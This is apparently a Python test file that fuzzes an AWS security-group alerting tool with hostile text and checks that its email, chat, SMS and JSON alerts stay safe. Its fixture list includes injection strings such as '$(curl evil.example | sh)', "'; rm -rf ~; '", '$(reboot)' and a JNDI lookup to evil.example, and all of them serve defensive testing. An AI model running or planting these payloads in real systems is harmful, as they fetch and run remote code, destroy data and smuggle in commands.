"""Somebody else's text, whatever it is and wherever it stands, is only ever text, in every form."""

import json
import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cached_property, partial
from itertools import count
from typing import Any, Final
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from py_ocsf_models.events.findings.detection_finding import (  # type: ignore[import-untyped]
    DetectionFinding,
)

from security_group_alerter.cloudtrail.tampering_rules import TAMPERING_RULE
from security_group_alerter.grouping import alerts_of
from security_group_alerter.messages import messages_of
from security_group_alerter.model.account import AccountFacts, Fact, LookupProblem
from security_group_alerter.model.alert import Ended
from security_group_alerter.model.exposure_life import EndedHow, Event, ExposureLife, Resource
from security_group_alerter.model.finding import Finding
from security_group_alerter.model.group_state import GroupState, Look, NetworkInterface, Reach
from security_group_alerter.model.message import LARGEST_MESSAGE, Message
from security_group_alerter.model.severity import Severity
from security_group_alerter.model.standing import Moment
from security_group_alerter.model.subject import SubjectKind
from tests.security_group_alerter.builders import with_judgement, with_record
from tests.security_group_alerter.messages.forms import (
    CALLS,
    FACTS,
    GROUP_NAME,
    PLAIN,
    QUERIES,
    texts_of,
)
from tests.security_group_alerter.messages.looks import (
    CALLED_AT,
    GROUP,
    SSH_RULE,
    list_state,
    listed_world,
    looked,
    resource,
    ssh,
    state,
)
from tests.stories import NOW, PRESENTATION, ROOT, STORIES, delivered, findings_of, story, told

# What is hostile ---------------------------------------------------------------------------------

TRICKS: Final = (
    "<!channel>",
    "<!here> @here @channel",
    "<@U012AB3CD>",
    "<https://evil.example|click here to close the alert>",
    "[all clear](https://evil.example)",
    "`*_~ &lt;!channel&gt; #general",
    "```",
    "\nWHO\n  Principal      jane.doe@example.com",
    "\r\nSubject: all clear",
    "WHO\u2028  Principal      nobody\x85UNDO\u2029  aws ec2 delete-vpc",
    "*Where:* nowhere\n*Who:* nobody",
    "\u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u061c",
    "\x1b[2J\x1b[31m\x07\x00\x9b",
    "\ud800",
    "\udcff\udc80 \ud83d",
    "'; rm -rf ~; '",
    "$(curl evil.example | sh)",
    "--endpoint-url=https://evil.example",
    "sg-0123456789abcdef0 --profile root",
    "sg-0123456789abcdef0\n",
    "eu-central-1.evil.example/",
    "../../../../?x=1&y=2#z",
    '"},"severity":"Informational"}',
    "%s %n {0} ${jndi:ldap://evil.example/a} {region}",
    "\U000e0041\U000e0042 \u200b\ufeff\u00ad",
    "None",
    # EC2 takes these as the name of a group.
    "$(reboot); {x} [y](z) #general a&b!",
    "a&lt;!channel&gt;",
    "🔥",
    "\U0010ffff",
    "\ufdfa",
    "\u05d0\u0627",
    '"\\' * 30_000,
)
ANY_TEXT: Final = st.text(st.characters())
# No text of a record is longer: CloudWatch Logs takes log events of up to 256 KiB.
LONGEST: Final = 60_000
HOSTILE: Final = st.one_of(
    st.sampled_from(TRICKS),
    ANY_TEXT,
    st.builds("{}{}{}".format, ANY_TEXT, st.sampled_from(TRICKS), ANY_TEXT),
    st.builds(
        lambda text, times: (text * times)[:LONGEST],
        st.sampled_from(TRICKS),
        st.integers(50, 1000),
    ),
    st.builds(lambda char, times: char * times, st.characters(), st.integers(100, 30_000)),
)
# Without these texts a record is not ours, without those it says little; all others are given.
CIDRS: Final = ("cidrIp", "cidrIpv4", "cidrIpv6", "CidrIp", "CidrIpv6", "Cidr")
OURS: Final = frozenset(
    {"eventName", "eventSource", "eventCategory", "eventType", "servicePrincipal"}
)
# A copy from a VPC endpoint that was not denied is nothing.
DENIED_COPY: Final = "VpceAccessDenied"
KEPT: Final = OURS | {"type", "ipProtocol", "IpProtocol", *CIDRS}


def opened_by_name() -> dict[str, Any]:
    """A call that names the group by its name alone, which then stands in the commands."""
    record = story("ssh-opened-to-the-world-from-the-console")
    del record["requestParameters"]["groupId"]
    record["requestParameters"]["groupName"] = "web"
    return record | {"responseElements": {"_return": True}}


RECORDS: Final = [
    *(
        record
        for record in map(story, STORIES)
        if record.get("errorCode") != DENIED_COPY
        # Only the message of the refusal makes it ours.
        and TAMPERING_RULE not in record.get("errorMessage", "")
    ),
    opened_by_name(),
]


class LogEvent:
    """A log event with somebody's texts in it, in an account with such names, and what is told."""

    more_in_beginning = 0

    def __init__(self, log_event: str | dict[str, Any], text: str) -> None:
        self.log_event, self.text = log_event, text

    def __repr__(self) -> str:
        return f"LogEvent({self.log_event!r}, {self.text!r})"

    @cached_property
    def messages(self) -> list[Message]:
        return self.told_with(str)

    @property
    def content(self) -> str:
        """What is read of it. Raw JSON never is told."""
        return repr(
            [
                with_record(finding, request=None, response=None)
                for finding in findings_of(self.log_event)
            ]
        )

    def told_with(self, change: Callable[[str], str]) -> list[Message]:
        """What is told of the same log event, in which every text is changed."""
        log_event, text = with_every_text(self.log_event, change, OURS), change(self.text)
        facts = AccountFacts(
            name=text,
            state=text,
            ou_path=(text, text),
            tags={"Owner": text, text: text},
            owner=text,
            problems=(LookupProblem(Fact.OU, text),),
        )
        portal = PRESENTATION if len(self.text) % 2 else PLAIN
        return list(told(findings_of(log_event), facts=facts, presentation=portal))

    def texts(self, form: str) -> list[str]:
        return [texts_of(message)[form] for message in self.messages]


def with_every_text(
    value: Any, change: Callable[[str], str], kept: frozenset[str] = KEPT, key: str = ""
) -> Any:
    """The record with every text in it changed, but for those that are kept."""
    if isinstance(value, dict):
        return {name: with_every_text(it, change, kept, name) for name, it in value.items()}
    if isinstance(value, list):
        return [with_every_text(item, change, kept, key) for item in value]
    is_kept = not isinstance(value, str) or key in kept or value == DENIED_COPY
    if is_kept or (key == "errorMessage" and TAMPERING_RULE in value):
        return value
    # The end of a rule's name makes it ours: a call on any other rule is nothing.
    return f"{change(value)}{TAMPERING_RULE}" if TAMPERING_RULE in value else change(value)


@st.composite
def hostile_log_events(draw: st.DrawFn) -> LogEvent:
    """A story in which some texts, or all, are replaced; sometimes no record at all."""
    text, another = draw(HOSTILE), draw(HOSTILE)
    if draw(st.integers(0, 9)) == 0:
        return LogEvent(text, another)
    choose = draw(st.randoms(use_true_random=False))
    share = draw(st.sampled_from([0.2, 0.6, 1.0]))

    def replaced(value: str) -> str:
        return choose.choice((text, another)) if choose.random() < share else value

    record = draw(st.sampled_from(RECORDS))
    if draw(st.booleans()):
        record = record | {"errorCode": "Client.Whatever", "errorMessage": text}
    return LogEvent(with_every_text(record, replaced), draw(st.sampled_from((text, another))))


# What every form holds ---------------------------------------------------------------------------


def assert_message_as_amazon_sns_wants_it(log_event: LogEvent) -> None:
    assert log_event.messages
    for message in log_event.messages:
        sent = len(message.body.encode()) + len(message.subject.encode())
        sent += sum(
            len(f"{name}String{value}".encode()) for name, value in message.attributes.items()
        )
        assert sent == message.size <= LARGEST_MESSAGE
        texts = texts_of(message)
        assert texts.keys() == {"default", "email", "https", "sms"}
        assert all(text.encode() for text in texts.values())


def assert_subject(log_event: LogEvent) -> None:
    for message in log_event.messages:
        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL): .*\w", message.subject)
        assert message.subject.isprintable()
        assert "://" not in message.subject
        # However characters are counted: as code points, or in UTF-16 as Java does.
        assert len(message.subject.encode("utf-16-le")) / 2 < 100


def assert_attributes(log_event: LogEvent) -> None:
    for message in log_event.messages:
        assert len(message.attributes) <= 10
        for name, value in message.attributes.items():
            assert re.fullmatch(r"[a-z_]+", name)
            assert value
            assert value.isprintable()
            assert len(value) <= 200
        assert message.attributes.get("account_id", "0" * 12).isascii()


TITLES: Final = (
    *("UNDO", "LOOK", "WHAT TO DO", "MORE", "WHAT CHANGED", "ATTACHED TO", "REFERRED TO BY"),
    "WHAT WAS ATTEMPTED AND DENIED: NOTHING CHANGED",
    "WHAT WAS ATTEMPTED AND FAILED: NOTHING CHANGED",
    "WHAT WAS TRIED AS A DRY RUN: NOTHING CHANGED",
)
# Those that stand once in an alert of one call, and what comes before them.
LABELS: Final = (
    *("Account: ", "By: ", "Ask: ", "Rule description: ", "State of the account: "),
    *("Not known: ", "MFA: ", "Access key: ", "On: ", "Refused because: ", "AWS answered "),
    *("Group tags: ", "Not seen: ", "A private address may ", "HIGH instead of "),
    *("Called: ", "Opened: ", "Open since: ", "OU: ", "Why ", "Close it ", "Undo it"),
)
# What a line begins with that is not ours to the last character.
LINK: Final = re.compile(r"(?:Group|Event): (https://.*)")
# How few lines tell what a decision needs, with the empty ones between them.
LONGEST_BEGINNING: Final = 17


def assert_email(log_event: LogEvent) -> None:
    for text in log_event.texts("email"):
        assert all(line.isprintable() for line in text.split("\n"))
        parts = text.removesuffix("\n").split("\n\n")
        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL): ", parts[0])
        # Nothing that was typed by somebody else looks like a title or a label of ours.
        titles = [part.split("\n")[0] for part in parts if part.split("\n")[0] in TITLES]
        assert titles[0].startswith("WHAT ")
        assert len(set(titles)) == len(titles)
        lines = text.split("\n")
        ours = (*TITLES, *(line for line in lines if line.startswith(("  ", "OU: "))))
        assert not any(line.isupper() for line in lines if line not in ours)
        assert lines.index(titles[0]) <= LONGEST_BEGINNING + log_event.more_in_beginning
        for label in LABELS:
            assert sum(line.startswith(label) for line in lines) <= 1
        # Nor does a mail client make a link of it.
        more = lines[lines.index("MORE") :] if "MORE" in lines else []
        assert all(LINK.fullmatch(line) for line in lines if "://" in line)
        assert all(line in more for line in lines if "://" in line)


SCHEMA: Final = Draft202012Validator(
    json.loads((ROOT / "tests" / "schemas" / "custom_notification.schema.json").read_text("utf-8"))
)
# What means something to Slack or Teams.
MARKUP: Final = "<>`*~|@[]&#"
WITHOUT_MARKUP: Final = str.maketrans(MARKUP, "x" * len(MARKUP))


def texts_in(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        value = [*value, *value.values()]
    if isinstance(value, list):
        for item in value:
            yield from texts_in(item)
    else:
        assert isinstance(value, str)
        yield value


def assert_chat(log_event: LogEvent) -> None:
    for text in log_event.texts("https"):
        notification = json.loads(text)
        SCHEMA.validate(notification)
        lines = notification["content"].pop("description").split("\n")
        for line in (*lines, *texts_in(notification)):
            assert line.isprintable()
            assert not re.search("[<>]", line)
        assert [line.startswith("*Where:* ") for line in lines].count(True) == 1
        assert [line.startswith("*Who:* ") for line in lines].count(True) == 1
        assert not any("://" in line for line in lines)
        # A command stands in a code span: nothing in it ends the span, mentions or is decoded.
        for step in notification["content"]["nextSteps"]:
            _, *command = step.split("`")
            assert len(command) in (0, 2)
            assert not re.search("[<>*~|@]|&[A-Za-z0-9#]+;", "".join(command))


def assert_all_markup_in_chat_is_ours(log_event: LogEvent) -> None:
    """Whether or not the texts hold markup, the notification holds as much of it."""
    harmless = log_event.told_with(lambda text: text.translate(WITHOUT_MARKUP))

    for text, message in zip(log_event.texts("https"), harmless, strict=True):
        shown, other = (
            apart_from_links_and_commands(it) for it in (text, texts_of(message)["https"])
        )
        for char in MARKUP:
            assert shown.count(char) == other.count(char), char


def apart_from_links_and_commands(text: str) -> str:
    """Commands hold a group's name as it is, in a code span."""
    notification = json.loads(text)
    content = notification["content"]
    content["nextSteps"] = [step for step in content["nextSteps"] if "`aws " not in step]
    return re.sub(r"https://[^ \"]+", "", json.dumps(notification))


def assert_sms(log_event: LogEvent) -> None:
    for text in log_event.texts("sms"):
        assert text.isascii()
        assert text.isprintable()
        assert len(text) <= 140
        assert "://" not in text
        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL) .*\w", text)


def assert_machine(log_event: LogEvent) -> None:
    for text in log_event.texts("default"):
        # Strictly, as a program that is not written in Python reads it.
        document = DetectionFinding.model_validate_json(text)
        assert document.severity_id in range(1, 6)
        json.dumps(json.loads(text), ensure_ascii=False).encode()


# Commands and links ------------------------------------------------------------------------------

TRAIL: Final = (
    r"(arn:aws[a-z-]*:cloudtrail:[a-z0-9-]+:[0-9]{12}:trail/)?[A-Za-z0-9][A-Za-z0-9._-]{2,127}"
)
# In the shorthand of filters: no second value.
PLAIN_NAME: Final = r"[A-Za-z0-9._/(][A-Za-z0-9 ._:/()#+;&!$-]{0,254}"
IDS: Final = {
    "--region": r"[a-z]{2,}(-[a-z0-9]+)+",
    "--group-id": r"sg-[0-9a-f]{8,17}",
    "--vpc-id": r"vpc-[0-9a-f]{8,17}",
    "--prefix-list-id": r"pl-[0-9a-f]{8,17}",
    "--previous-version": r"[1-9][0-9]{0,9}",
    "--current-version": r"[1-9][0-9]{0,9}",
    "--security-group-rule-ids": r"sgr-[0-9a-f]{8,17}",
    "--network-interface-id": r"eni-[0-9a-f]{8,17}",
    "--network-interface-ids": r"eni-[0-9a-f]{8,17}",
    "--instance-id": r"i-[0-9a-f]{8,17}",
    "--instance-ids": r"i-[0-9a-f]{8,17}",
    "--groups": r"sg-[0-9a-f]{8,17}",
    "--group-name": GROUP_NAME,
    "--filters": rf"Name=group-id,Values=sg-[0-9a-f]{{8,17}}(,sg-[0-9a-f]{{8,17}})*"
    rf"|Name=group-name,Values={PLAIN_NAME}",
    "--query": "|".join(map(re.escape, QUERIES)),
    "--output": "table",
    "--lookup-attributes": r"AttributeKey=EventId,AttributeValue=[0-9A-Za-z-]{1,100}",
    "--name": TRAIL,
    "--trail-name": TRAIL,
    "--rule": r"[A-Za-z0-9._-]{1,64}",
    "--service-principal": r"cloudtrail\.amazonaws\.com",
    "--delegated-admin-account-id": r"[0-9]{12}",
    "--account-id": r"[0-9]{12}",
    "--remove-entries": r"Cidr=[0-9a-f:.]+/[0-9]+",
}
FLAGS: Final = (
    "--ipam-prefix-list-resolver-sync-enabled",
    "--no-ipam-prefix-list-resolver-sync-enabled",
)
COMMANDS: Final = {
    "ec2": (
        *("revoke-security-group-ingress", "revoke-security-group-egress"),
        *("authorize-security-group-ingress", "authorize-security-group-egress"),
        *("delete-security-group", "associate-security-group-vpc"),
        *("disassociate-security-group-vpc", "delete-managed-prefix-list"),
        *("restore-managed-prefix-list-version", "modify-managed-prefix-list"),
        *("describe-network-interfaces", "describe-instances"),
        *("modify-network-interface-attribute", "modify-instance-attribute"),
        *("describe-security-group-rules", "describe-security-groups"),
        *("get-managed-prefix-list-entries", "get-managed-prefix-list-associations"),
    ),
    "cloudtrail": (
        *("start-logging", "get-trail", "get-trail-status", "get-event-selectors"),
        *("list-trails", "lookup-events", "deregister-organization-delegated-admin"),
    ),
    "organizations": (
        *("enable-aws-service-access", "list-aws-service-access-for-organization"),
        *("list-delegated-administrators", "describe-account"),
    ),
    "events": ("describe-rule", "list-targets-by-rule", "enable-rule"),
}
PERMISSION: Final = {
    "IpProtocol": r"-1|[a-z0-9]{1,10}",
    "FromPort": r"-1|[0-9]{1,5}",
    "ToPort": r"-1|[0-9]{1,5}",
    "CidrIp": r"[0-9.]+/[0-9]+",
    "CidrIpv6": r"[0-9a-f:.]+/[0-9]+",
    "PrefixListId": IDS["--prefix-list-id"],
    "GroupId": IDS["--group-id"],
    "UserId": r"[0-9]{12}",
    # Without what means something in a chat.
    "Description": r"[a-zA-Z0-9 ._:/(),+=;!$-]{1,255}",
}


def assert_is_of_ids(command: str) -> None:
    """Every word is one of ours, or of the form that AWS gives its ids."""
    aws, service, call, *words = shlex.split(command)
    assert aws == "aws"
    assert call in COMMANDS[service]
    assert "://" not in command
    option = ""
    for word in words:
        if word in FLAGS:
            continue
        if word in IDS or word == "--ip-permissions":
            option = word
        elif option == "--ip-permissions":
            assert_permissions(json.loads(word))
        elif option == "--filters" and word.startswith("["):
            [found] = json.loads(word)
            [name] = found.pop("Values")
            assert found == {"Name": "group-name"}
            assert re.fullmatch(GROUP_NAME, name)
        else:
            assert re.fullmatch(IDS[option], word)


def assert_permissions(value: Any, key: str = "") -> None:
    if isinstance(value, dict):
        for name, member in value.items():
            assert_permissions(member, name)
    elif isinstance(value, list):
        for item in value:
            assert_permissions(item, key)
    else:
        assert re.fullmatch(PERMISSION[key], str(value))


def commands_in(message: Message) -> Iterator[str]:
    texts = texts_of(message)
    yield from re.findall(r"^(?:\d+\. )?(aws .*)$", texts["email"], re.MULTILINE)
    steps = json.loads(texts["https"])["content"]["nextSteps"]
    yield from (step.split("`")[1] for step in steps if "`" in step)
    desc = json.loads(texts["default"])["remediation"]["desc"]
    yield from (line for line in desc.split("\n") if line.startswith("aws "))


LINK_STEP: Final = re.compile("(Group|CloudTrail event): ")


def links_in(message: Message) -> Iterator[str]:
    texts = texts_of(message)
    yield from LINK.findall(texts["email"])
    steps = json.loads(texts["https"])["content"]["nextSteps"]
    yield from (step.split(": ", 1)[1] for step in steps if LINK_STEP.match(step))
    yield from json.loads(texts["default"])["remediation"].get("references", [])


def assert_leads_to_the_console(link: str) -> None:
    assert re.fullmatch(r"https://[A-Za-z0-9\-._~:/?#&=%]+", link)
    portal = "https://d-1234567890.awsapps.com/start/#/console?account_id="
    if link.startswith(portal):
        account, role, destination = link.removeprefix(portal).split("&")
        assert re.fullmatch(r"[0-9]{12}", account)
        assert role == "role_name=SecurityAudit"
        link = unquote(destination.removeprefix("destination="))
    parts = urlsplit(link)
    region, _, console = parts.netloc.partition(".")
    assert re.fullmatch(IDS["--region"], region)
    assert console in (
        "console.aws.amazon.com",
        "console.amazonaws.cn",
        "console.amazonaws-us-gov.com",
        "console.amazonaws-eusc.eu",
    )
    assert parts.query == f"region={region}"
    assert re.fullmatch(
        r"SecurityGroup:groupId=sg-[0-9a-z]+|/events/[A-Za-z0-9._~%-]+", parts.fragment
    )


def assert_commands_are_made_of_ids_only(log_event: LogEvent) -> None:
    for message in log_event.messages:
        for command in commands_in(message):
            assert_is_of_ids(command)


def assert_links_lead_to_the_console(log_event: LogEvent) -> None:
    for message in log_event.messages:
        for link in links_in(message):
            assert_leads_to_the_console(link)


# What is looked up in the account -----------------------------------------------------------------


class LookedAt(LogEvent):
    """A finding that was looked at, in an account where everything is called by some text."""

    # Tags, why it is less severe, why it may be reached all the same, and what was not seen.
    more_in_beginning = 4

    def __init__(self, finding: Finding, text: str) -> None:
        # AWS takes no name, tag or description that is longer.
        super().__init__({}, text[:1000])
        self.finding = finding

    def __repr__(self) -> str:
        return f"LookedAt({self.finding!r}, {self.text!r})"

    def told_with(self, change: Callable[[str], str]) -> list[Message]:
        """What is told of it when every text that a look reads is the changed one."""
        finding, text = self.finding, change(self.text)
        is_list = finding.subject.kind is SubjectKind.PREFIX_LIST
        groups = [state_called(text, resource(group_id)) for group_id in (text, GROUP)]
        seen = list_state(*groups, name=text, not_seen=(text,)) if is_list else groups[1]
        lowered = with_judgement(
            looked(finding, seen, Reach.PRIVATE, reasons=(text, text)),
            severity=Severity.HIGH,
            lowered_from=Severity.CRITICAL,
        )
        unseen = replace(lowered, look=Look(problem=text))
        moment = Moment(ended=(life_called(text),), is_whole=True)
        entries = [
            replace(entry, ended=Ended(how=EndedHow.REVOKED, at=NOW, principal=text))
            for entry in delivered([lowered, unseen, replace(lowered, moment=moment)])
        ]
        return [
            message
            for chosen in (entries[:1], entries[1:2], entries)
            for alert in alerts_of(
                chosen, facts_for=lambda _: FACTS, organization_id=None, seen_at=NOW
            )
            for message in messages_of(alert, PLAIN)
        ]


def state_called(text: str, group: Resource) -> GroupState:
    """A group that is as public and as private as can be; whatever has a name has this one."""
    interface = NetworkInterface(
        id=text,
        used_as=text,
        used_by=text,
        name=text,
        owner_id=text,
        private_addresses=(text,) * 5,
        ipv6=(text,) * 5,
    )
    return state(
        *(replace(interface, id=f"{text}{number}") for number in range(7)),
        resource=group,
        name=text,
        vpc_id=text,
        tags={f"{text}{number}": text for number in range(7)},
        rules=(replace(SSH_RULE, rule_id=text, peer=replace(SSH_RULE.peer, value="::/0")),),
        other_vpc_ids=(text,),
        not_seen=(f"{text} could not be seen: {text}", text),
    )


def life_called(text: str) -> ExposureLife:
    return ExposureLife(
        uid=text,
        resource=resource(),
        opened=Event(event_id=text, time=CALLED_AT, principal=text),
        revealed=Event(event_id=text, time=CALLED_AT, principal=text),
        closed=Event(event_id=text, time=NOW, principal=text),
        closed_how=EndedHow.REVOKED,
        severity=Severity.CRITICAL,
        openings=(),
        event_ids=(),
    )


@pytest.mark.parametrize("finding", [ssh(), listed_world()], ids=["group", "list"])
@pytest.mark.parametrize("trick", TRICKS, ids=[ascii(trick)[:30] for trick in TRICKS])
def test_trick_in_every_text_that_is_looked_up(trick: str, finding: Finding) -> None:
    for check in CHECKS:
        check(LookedAt(finding, trick))


@settings(deadline=None, max_examples=15, suppress_health_check=[HealthCheck.too_slow])
@given(HOSTILE)
def test_any_text_that_is_looked_up(text: str) -> None:
    for finding in (ssh(), listed_world()):
        for check in CHECKS:
            check(LookedAt(finding, text))


# Everywhere --------------------------------------------------------------------------------------

CHECKS: Final = (
    assert_message_as_amazon_sns_wants_it,
    assert_subject,
    assert_attributes,
    assert_email,
    assert_chat,
    assert_all_markup_in_chat_is_ours,
    assert_sms,
    assert_machine,
    assert_commands_are_made_of_ids_only,
    assert_links_lead_to_the_console,
)
# All that is hostile, in few characters.
NASTY: Final = "\n<!x>`\u202e\ud800'; --y"


@settings(deadline=None, max_examples=100, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_log_events())
def test_any_texts(log_event: LogEvent) -> None:
    for check in CHECKS:
        check(log_event)


@pytest.mark.parametrize("trick", TRICKS, ids=[ascii(trick)[:30] for trick in TRICKS])
def test_trick_in_every_text(trick: str) -> None:
    for record in (*map(story, CALLS), opened_by_name()):
        log_event = LogEvent(with_every_text(record, lambda _: trick), trick)
        for check in CHECKS:
            check(log_event)


@pytest.mark.parametrize("name", ["groups-of-a-network-interface-set", "groups-of-an-instance-set"])
def test_group_id_of_no_form_among_those_attached(name: str) -> None:
    record = story(name)
    record["requestParameters"]["groupSet"]["items"].append({"groupId": "<!channel>"})
    log_event = LogEvent(record, "payments")

    for check in CHECKS:
        check(log_event)

    [message] = log_event.messages
    assert any("describe-" in command for command in commands_in(message))


def test_name_that_ec2_takes_gets_into_commands_of_every_form() -> None:
    record = opened_by_name()
    record["requestParameters"]["groupName"] = name = "$(reboot); {x} [y](z) #general a&b!"

    [message] = LogEvent(record, "payments").messages

    commands = [*commands_in(message)]
    assert len(commands) == 5
    assert all(any(name in word for word in shlex.split(command)) for command in commands)


@pytest.mark.parametrize("name", STORIES)
def test_one_nasty_text_among_good_ones(name: str) -> None:
    checked: set[str] = set()
    for record in one_by_one(story(name)):
        log_event = LogEvent(record, "payments")
        # What is read of it is the same wherever the text stands that is not read.
        if (content := log_event.content) not in checked:
            checked.add(content)
            for check in CHECKS:
                check(log_event)


def one_by_one(record: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """The record with its first text made nasty, with its second, and so on."""
    numbers = count()
    with_every_text(record, lambda _: str(next(numbers)), OURS)
    for nasty in range(next(numbers)):
        yield with_every_text(record, partial(made_nasty, numbers=count(), nasty=nasty), OURS)


def made_nasty(text: str, numbers: Iterator[int], nasty: int) -> str:
    if next(numbers) != nasty:
        return text
    return text + NASTY if len(text) < 40 else NASTY


@pytest.mark.parametrize("name", STORIES)
def test_stories_have_commands_and_links_of_that_form(name: str) -> None:
    [message] = told(findings_of(story(name)))

    for command in commands_in(message):
        assert_is_of_ids(command)
    assert [*links_in(message)]
    for link in links_in(message):
        assert_leads_to_the_console(link)


def test_stories_have_commands_of_every_kind() -> None:
    messages = [message for name in STORIES for message in told(findings_of(story(name)))]

    commands = {shlex.split(it)[2] for message in messages for it in commands_in(message)}

    # No story needs these; the tests of undo and of attachments have them.
    seldom = {
        *("describe-security-groups", "enable-aws-service-access"),
        *("deregister-organization-delegated-admin", "describe-instances"),
        *("modify-network-interface-attribute", "modify-instance-attribute"),
    }
    assert set().union(*COMMANDS.values()) - commands <= seldom


@pytest.mark.parametrize("digits", ["\u0661" * 12, "\uff11" * 12], ids=["arabic", "fullwidth"])
def test_digits_of_other_scripts_make_no_account_id(digits: str) -> None:
    record = story("ssh-opened-to-the-world-from-the-console")
    record["recipientAccountId"] = record["userIdentity"]["accountId"] = digits

    [message] = told(findings_of(record))

    assert message.attributes["account_id"] == "222233334444"
    assert digits not in message.body
    assert json.dumps(digits)[1:-1] not in message.body


def test_tag_with_a_long_name_is_told_apart_from_its_value() -> None:
    facts = AccountFacts(tags={"BusinessUnitOwner": "payments"})

    [message] = told(findings_of(RECORDS[0]), facts=facts)

    assert "\nBusinessUnitOwner: payments\n" in texts_of(message)["email"]
